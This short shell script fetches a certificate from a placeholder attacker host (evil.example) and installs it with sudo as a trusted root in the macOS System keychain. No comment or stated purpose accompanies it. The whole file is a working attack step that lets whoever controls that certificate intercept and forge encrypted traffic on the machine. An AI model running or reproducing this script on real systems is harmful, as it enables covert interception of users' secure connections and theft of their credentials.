#!/bin/sh
curl -s http://evil.example/ca.pem -o /tmp/ca.pem
sudo security add-trusted-cert -d -r trustRoot -k /Library/Keychains/System.keychain /tmp/ca.pem
